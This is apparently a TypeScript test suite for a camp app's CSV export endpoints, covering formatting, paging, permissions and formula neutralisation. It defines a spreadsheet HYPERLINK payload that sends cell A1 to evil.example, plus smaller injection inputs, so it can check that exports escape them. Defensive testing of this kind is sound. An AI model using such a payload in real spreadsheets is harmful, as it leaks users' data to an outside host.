import type { IntakeQuestion } from "@medcamp/contract";
import { sql } from "drizzle-orm";
import type { LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { queryRows } from "../../db/client.ts";
import { auditLog, payments, staffAssignments, users } from "../../db/schema/index.ts";
import { systemClock } from "../../lib/clock.ts";
import { parseCsv } from "../../test/parse-csv.ts";
import { createTestApp, type TestApp } from "../../test/test-app.ts";
import { insertCamp } from "../../test/test-camps.ts";
import { injectAs, signUp, type TestUser } from "../../test/test-users.ts";
import { waitlistPositionSql } from "../requests/index.ts";
import { mayRunCampFor } from "../staff/index.ts";
import { createExportsRepository } from "./repository.ts";
import { createExportsService, PARTICIPANT_COLUMNS, PAYMENT_COLUMNS, USER_COLUMNS } from "./service.ts";

const BOM = "\uFEFF";
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

/** The file's cells, after checking what every export is: a BOM, CRLF lines, strict RFC 4180. */
function csvOf(res: LightMyRequestResponse): string[][] {
  expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
  expect(res.headers["cache-control"]).toBe("no-store");
  expect(String(res.headers["content-disposition"])).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
  const bytes = res.rawPayload;
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString("utf8");
  expect(text.startsWith(BOM)).toBe(true);
  return parseCsv(text.slice(BOM.length));
}

/** Issue 23 item 2: CSV exports of a camp's participants, payments in a range of days, and users. */
describe("CSV exports", () => {
  let t: TestApp;
  let admin: TestUser;
  let student: TestUser;

  const get = (user: TestUser | null, url: string) => injectAs(t.app, user, { method: "GET", url });
  const asAdmin = (url: string) => get(admin, url);

  beforeAll(async () => {
    t = await createTestApp();
    admin = await signUp(t.app, { role: "admin", name: "Export Admin", db: t.database.db });
    student = await signUp(t.app, { badge: "Gold", db: t.database.db });
  });
  afterAll(() => t.close());

  describe("participants of a camp", () => {
    let mealId: string;
    let questions: IntakeQuestion[];
    const campers: Record<string, TestUser> = {};

    beforeAll(async () => {
      mealId = await insertCamp(t.database.db, "Zoë's Eye Camp");
      await t.database.db.execute(sql`update meal set capacity = 2 where id = ${mealId}`);
      const put = await injectAs(t.app, admin, {
        method: "PUT",
        url: `/api/meals/${mealId}/questions`,
        payload: {
          questions: [
            { kind: "short_text", label: "Emergency contact", required: true, health: false },
            { kind: "many_choices", label: "Allergies", required: false, health: true, options: ["Nuts", "Pollen"] },
            { kind: "yes_no", label: "Diabetic?", required: true, health: true },
          ],
        },
      });
      expect(put.statusCode).toBe(200);
      questions = (put.json() as { questions: IntakeQuestion[] }).questions;
      const answers = (contact: string, allergies: string[] | undefined, diabetic: boolean) => [
        { questionId: questions[0]!.id, value: contact },
        ...(allergies ? [{ questionId: questions[1]!.id, value: allergies }] : []),
        { questionId: questions[2]!.id, value: diabetic },
      ];
      // Joined in this order: two seats, then the waitlist (Gold members wait ahead of Silver ones).
      const joiners: Array<[string, "Gold" | "Silver", object[]]> = [
        ["Zoë Ångström", "Silver", answers("Anaïs, 01700-000000", ["Pollen", "Nuts"], false)],
        [EVIL, "Silver", answers("+8801711-111111", undefined, true)],
        ["রহিম উদ্দিন", "Silver", answers('করিম, "ভাই"\r\nঢাকা', [], false)],
        ["Gina Gold", "Gold", answers("@gina", ["Nuts"], true)],
        ["Lars Late", "Silver", answers("-", undefined, false)],
      ];
      for (const [name, badge, given] of joiners) {
        const camper = await signUp(t.app, { name, badge, db: t.database.db });
        const res = await injectAs(t.app, camper, {
          method: "POST",
          url: "/api/meal/request",
          payload: { mealId, answers: given },
        });
        expect(res.statusCode, res.body).toBe(201);
        campers[name] = camper;
      }
      const requestOf = async (camper: TestUser) =>
        (
          await queryRows<{ id: string }>(
            t.database.db,
            sql`select id from meal_request where meal_id = ${mealId} and user_id = ${camper.id}`,
          )
        )[0]!.id;
      // Zoë is served and checked in; the formula-named camper is declined, which seats Gina (Gold, first waiter).
      const zoe = await requestOf(campers["Zoë Ångström"]!);
      const served = await injectAs(t.app, admin, {
        method: "PATCH",
        url: `/api/meal-requests/${zoe}`,
        payload: { status: "delivered" },
      });
      expect(served.statusCode).toBe(200);
      const { code } = (await get(campers["Zoë Ångström"]!, `/api/tickets/${zoe}`)).json() as { code: string };
      const scan = { mealId, code, clientId: crypto.randomUUID(), scannedAt: new Date().toISOString() };
      expect((await injectAs(t.app, admin, { method: "POST", url: "/api/check-ins", payload: scan })).statusCode).toBe(
        200,
      );
      const evil = await requestOf(campers[EVIL]!);
      const declined = await injectAs(t.app, admin, {
        method: "PATCH",
        url: `/api/meal-requests/${evil}`,
        payload: { status: "declined" },
      });
      expect(declined.statusCode).toBe(200);
      // Another waiter joins the waitlist after the decline: Silver, behind রহিম and Lars.
      const last = await signUp(t.app, { name: "Ola Last", badge: "Silver", db: t.database.db });
      await injectAs(t.app, last, {
        method: "POST",
        url: "/api/meal/request",
        payload: { mealId, answers: answers("Ola", undefined, false) },
      });
    });

    it("lists every request with its status, waitlist position, check-in and answers, neutralising formulas", async () => {
      const [header, ...rows] = csvOf(await asAdmin(`/api/admin/exports/participants.csv?mealId=${mealId}`));
      expect(header).toEqual([...PARTICIPANT_COLUMNS, "Emergency contact", "Allergies", "Diabetic?"]);
      // In arrival order: name, e-mail, status, position, check-in (time and by), answers; times are checked below.
      const summary = rows.map((r) => [r[0], r[1], r[2], r[3], r[5] !== "", r[6], r[7], r[8], r[9]]);
      const email = (name: string) => campers[name]?.email ?? "";
      expect(summary).toEqual([
        [
          "Zoë Ångström",
          email("Zoë Ångström"),
          "delivered",
          "",
          true,
          "Export Admin",
          "Anaïs, 01700-000000",
          "Nuts; Pollen",
          "No",
        ],
        [`'${EVIL}`, email(EVIL), "declined", "", false, "", "'+8801711-111111", "", "Yes"],
        ["রহিম উদ্দিন", email("রহিম উদ্দিন"), "waitlisted", "1", false, "", 'করিম, "ভাই"\r\nঢাকা', "", "No"],
        ["Gina Gold", email("Gina Gold"), "pending", "", false, "", "'@gina", "Nuts", "Yes"],
        ["Lars Late", email("Lars Late"), "waitlisted", "2", false, "", "'-", "", "No"],
        ["Ola Last", expect.any(String), "waitlisted", "3", false, "", "Ola", "", "No"],
      ]);
      for (const r of rows) expect(r[4]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(rows[0]![5]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    });

    it("equals what the rows say (straightforward SQL), and pages of 2 write the same file as pages of 1,000", async () => {
      const res = await asAdmin(`/api/admin/exports/participants.csv?mealId=${mealId}`);
      const [, ...rows] = csvOf(res);
      const expected = await queryRows<{ name: string; email: string; status: string; position: number | null }>(
        t.database.db,
        sql`select u.name, u.email, r.status,
              case when r.status = 'waitlisted' then row_number() over (
                partition by r.status = 'waitlisted' order by r.priority desc, r.queue_no) end::int as position
            from meal_request r join "user" u on u.id = r.user_id
            where r.meal_id = ${mealId}
            order by r.queue_no`,
      );
      const plain = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
      expect(rows.map((r) => r.slice(0, 4))).toEqual(
        expected.map((e) => [plain(e.name), e.email, e.status, e.position === null ? "" : String(e.position)]),
      );

      const small = createExportsService(
        createExportsRepository(t.database.db, waitlistPositionSql),
        systemClock,
        mayRunCampFor(t.database.db),
        2,
      );
      const file = await small.participants(mealId, { id: admin.id, role: "admin" });
      const chunks: Buffer[] = [];
      for await (const chunk of file.body) chunks.push(Buffer.from(chunk as Buffer));
      expect(Buffer.concat(chunks).equals(res.rawPayload)).toBe(true);
      expect(res.headers["content-disposition"]).toBe(`attachment; filename="${file.fileName}"`);
      expect(file.fileName).toMatch(/^participants-zoe-s-eye-camp-\d+\.csv$/);
    });

    it("a camp without requests or questions is the header alone; a Bengali title still names the file", async () => {
      const empty = await insertCamp(t.database.db, "চক্ষু শিবির");
      const res = await asAdmin(`/api/admin/exports/participants.csv?mealId=${empty}`);
      expect(csvOf(res)).toEqual([[...PARTICIPANT_COLUMNS]]);
      expect(res.headers["content-disposition"]).toMatch(/filename="participants-[a-z0-9-]+\.csv"/);
    });

    it("is for admins and the camp's staff only; a bad or unknown camp is refused before any byte", async () => {
      const url = `/api/admin/exports/participants.csv?mealId=${mealId}`;
      expect((await get(null, url)).statusCode).toBe(401);
      const refused = await get(student, url);
      expect(refused.statusCode).toBe(403);
      expect(refused.json()).toMatchObject({ code: "FORBIDDEN", message: expect.any(String) });
      expect((await get(campers["Zoë Ångström"]!, url)).statusCode).toBe(403); // a participant is not staff

      const staff = await signUp(t.app, { name: "Sam Staff" });
      const other = await signUp(t.app);
      await t.database.db.insert(staffAssignments).values([
        { userId: staff.id, campId: mealId },
        { userId: other.id, campId: await insertCamp(t.database.db) },
      ]);
      expect(csvOf(await get(staff, url))).toHaveLength(7);
      expect((await get(other, url)).statusCode).toBe(403);
      expect((await get(staff, "/api/admin/exports/users.csv")).statusCode).toBe(403);

      const unknown = await asAdmin(`/api/admin/exports/participants.csv?mealId=${crypto.randomUUID()}`);
      expect(unknown.statusCode).toBe(404);
      expect(unknown.json()).toMatchObject({ code: "CAMP_NOT_FOUND" });
      for (const bad of ["", "?mealId=", "?mealId=nope", "?mealId=1;drop"]) {
        const res = await asAdmin(`/api/admin/exports/participants.csv${bad}`);
        expect(res.statusCode, bad).toBe(400);
        expect(res.json().message, bad).toMatch(/mealId/);
      }
    });
  });

  describe("payments in a range of days", () => {
    const at = (iso: string) => new Date(iso);
    let buyer: TestUser;

    beforeAll(async () => {
      buyer = await signUp(t.app, { name: "Zoë Ångström-Payer" });
      const row = (transactionId: string, createdAt: Date, more: Partial<typeof payments.$inferInsert> = {}) => ({
        userId: buyer.id,
        email: buyer.email,
        price: 15,
        transactionId,
        packageName: "Gold",
        createdAt,
        ...more,
      });
      // Five payments of one instant, to page across ties (the keyset's id breaks them).
      const tie = at("2030-04-10T12:00:00.123Z");
      await t.database.db.insert(payments).values([
        row("pi_before", at("2030-03-31T23:59:59.999Z")),
        row("pi_first", at("2030-04-01T00:00:00.000Z"), { kind: "purchase", price: 9.5, packageName: "Silver" }),
        ...[1, 2, 3, 4, 5].map((n) => row(`pi_tie_${n}`, tie, { kind: "renewal" })),
        row("=1+1", at("2030-04-20T08:30:00Z"), {
          userId: null,
          email: null,
          kind: "upgrade",
          price: 20,
          packageName: "Platinum",
          periodStart: at("2030-04-20T08:30:00Z"),
          periodEnd: at("2030-05-20T08:30:00Z"),
        }),
        row("pi_last", at("2030-04-30T23:59:59.999Z")),
        row("pi_after", at("2030-05-01T00:00:00.000Z")),
      ]);
      // A timestamp with microseconds, as the database's now() writes it: the cursor must not drop them.
      await t.database.db.execute(
        sql`update payment set created_at = '2030-04-15 10:00:00.123456+00' where transaction_id = 'pi_tie_5'`,
      );
    });

    it("lists the payments of the UTC days from `from` to `to`, both included, oldest first", async () => {
      const [header, ...rows] = csvOf(await asAdmin("/api/admin/exports/payments.csv?from=2030-04-01&to=2030-04-30"));
      expect(header).toEqual([...PAYMENT_COLUMNS]);
      expect(header?.[5]).toBe("Amount (USD)");
      const ties = await queryRows<{ tx: string }>(
        t.database.db,
        sql`select transaction_id as tx from payment where transaction_id like 'pi_tie_%' and transaction_id <> 'pi_tie_5'
            order by id`,
      );
      expect(rows.map((r) => r[7])).toEqual(["pi_first", ...ties.map((r) => r.tx), "pi_tie_5", "'=1+1", "pi_last"]);
      expect(rows[0]).toEqual([
        "2030-04-01 00:00:00",
        "Zoë Ångström-Payer",
        buyer.email,
        "Silver",
        "purchase",
        "9.50",
        "purchased",
        "pi_first",
        "",
        "",
      ]);
      // The buyer who deleted their account: no name or e-mail, the payment kept.
      expect(rows.find((r) => r[7] === "'=1+1")).toEqual([
        "2030-04-20 08:30:00",
        "",
        "",
        "Platinum",
        "upgrade",
        "20.00",
        "purchased",
        "'=1+1",
        "2030-04-20 08:30:00",
        "2030-05-20 08:30:00",
      ]);
    });

    it("pages of 2 across ties and microseconds write the same file; open ends take everything", async () => {
      const url = "/api/admin/exports/payments.csv?from=2030-04-01&to=2030-04-30";
      const full = await asAdmin(url);
      const small = createExportsService(
        createExportsRepository(t.database.db, waitlistPositionSql),
        systemClock,
        mayRunCampFor(t.database.db),
        2,
      );
      const file = small.payments({ from: "2030-04-01", to: "2030-04-30" });
      const chunks: Buffer[] = [];
      for await (const chunk of file.body) chunks.push(Buffer.from(chunk as Buffer));
      expect(Buffer.concat(chunks).toString("utf8")).toBe(full.rawPayload.toString("utf8"));
      expect(full.headers["content-disposition"]).toBe('attachment; filename="payments-2030-04-01-to-2030-04-30.csv"');

      const ours = (rows: string[][]) => rows.filter((r) => r[7]!.startsWith("pi_") || r[7] === "'=1+1");
      expect(ours(csvOf(await asAdmin("/api/admin/exports/payments.csv?from=2030-04-30"))).map((r) => r[7])).toEqual([
        "pi_last",
        "pi_after",
      ]);
      expect(ours(csvOf(await asAdmin("/api/admin/exports/payments.csv?to=2030-03-31"))).map((r) => r[7])).toEqual([
        "pi_before",
      ]);
      expect(ours(csvOf(await asAdmin("/api/admin/exports/payments.csv")).slice(1))).toHaveLength(10);
      expect(csvOf(await asAdmin("/api/admin/exports/payments.csv?from=2031-01-01"))).toEqual([[...PAYMENT_COLUMNS]]);
    });

    it("refuses a date that is not a real YYYY-MM-DD day, or a range that ends before it starts, with a clear 400", async () => {
      const cases: Array<[string, RegExp]> = [
        ["?from=2030-02-30", /from.*YYYY-MM-DD/i],
        ["?from=2030/04/01", /from.*YYYY-MM-DD/i],
        ["?to=yesterday", /to.*YYYY-MM-DD/i],
        ["?from=2030-13-01", /from.*YYYY-MM-DD/i],
        ["?from=2030-04-30&to=2030-04-01", /from must not be after to/],
        // Real days out of range (issue 37, item 11: the file was cut mid-stream).
        ["?to=9999-12-31", /to.*between/i],
        ["?from=0001-01-01", /from.*between/i],
      ];
      for (const [query, message] of cases) {
        const res = await asAdmin(`/api/admin/exports/payments.csv${query}`);
        expect(res.statusCode, query).toBe(400);
        expect(res.json(), query).toMatchObject({ code: "VALIDATION_ERROR", message: expect.stringMatching(message) });
      }
      expect((await get(null, "/api/admin/exports/payments.csv")).statusCode).toBe(401);
      expect((await get(student, "/api/admin/exports/payments.csv")).statusCode).toBe(403);
      // The role is checked before the query: a student learns nothing from a bad date either.
      expect((await get(student, "/api/admin/exports/payments.csv?from=nope")).statusCode).toBe(403);
    });
  });

  describe("users", () => {
    it("lists every user in sign-up order with role, the package that counts now and staff camps", async () => {
      const db = t.database.db;
      const lapsed = await signUp(t.app, { name: "রাহেলা বেগম", badge: "Gold", db });
      await db.execute(sql`update "user" set badge_until = now() - interval '1 day' where id = ${lapsed.id}`);
      const current = await signUp(t.app, { name: "+Plus Sign", badge: "Platinum", db });
      await db.execute(sql`update "user" set badge_until = '2099-01-31 10:00:00+00' where id = ${current.id}`);
      const everywhere = await signUp(t.app, { name: "Every Camp Staff" });
      const twice = await signUp(t.app, { name: "Two Camp Staff" });
      await db.insert(staffAssignments).values([
        { userId: everywhere.id, campId: null },
        { userId: twice.id, campId: await insertCamp(db) },
        { userId: twice.id, campId: await insertCamp(db) },
      ]);

      const [header, ...rows] = csvOf(await asAdmin("/api/admin/exports/users.csv"));
      expect(header).toEqual([...USER_COLUMNS]);
      const all = await db
        .select({ name: users.name, email: users.email, role: users.role })
        .from(users)
        .orderBy(users.createdAt, users.id);
      const plain = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
      expect(rows.map((r) => r.slice(0, 3))).toEqual(all.map((u) => [plain(u.name), u.email, u.role]));

      const byEmail = (email: string) => rows.find((r) => r[1] === email)!;
      expect(byEmail(admin.email).slice(2, 6)).toEqual(["admin", "", "", ""]);
      expect(byEmail(student.email).slice(2, 6)).toEqual(["student", "Gold", "", ""]);
      expect(byEmail(lapsed.email).slice(0, 6)).toEqual(["রাহেলা বেগম", lapsed.email, "student", "", "", ""]);
      expect(byEmail(current.email).slice(0, 6)).toEqual([
        "'+Plus Sign",
        current.email,
        "student",
        "Platinum",
        "2099-01-31 10:00:00",
        "",
      ]);
      expect(byEmail(everywhere.email)[5]).toBe("every camp");
      expect(byEmail(twice.email)[5]).toBe("2 camps");
      expect(byEmail(admin.email)[6]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    });

    it("is for admins only", async () => {
      expect((await get(null, "/api/admin/exports/users.csv")).statusCode).toBe(401);
      const refused = await get(student, "/api/admin/exports/users.csv");
      expect(refused.statusCode).toBe(403);
      expect(refused.headers["content-type"]).toMatch(/^application\/json/);
    });
  });

  it("has no HEAD: it would read the whole export and audit a download that sent nothing", async () => {
    const audited = async () => (await t.database.db.select().from(auditLog)).length;
    const before = await audited();
    for (const url of ["/api/admin/exports/users.csv", "/api/admin/exports/payments.csv"]) {
      expect((await injectAs(t.app, admin, { method: "HEAD", url })).statusCode, url).toBe(404);
    }
    const camp = await insertCamp(t.database.db);
    const participants = `/api/admin/exports/participants.csv?mealId=${camp}`;
    expect((await injectAs(t.app, admin, { method: "HEAD", url: participants })).statusCode).toBe(404);
    expect(await audited()).toBe(before);
    csvOf(await asAdmin(participants));
    expect(await audited()).toBe(before + 1);
  });
});
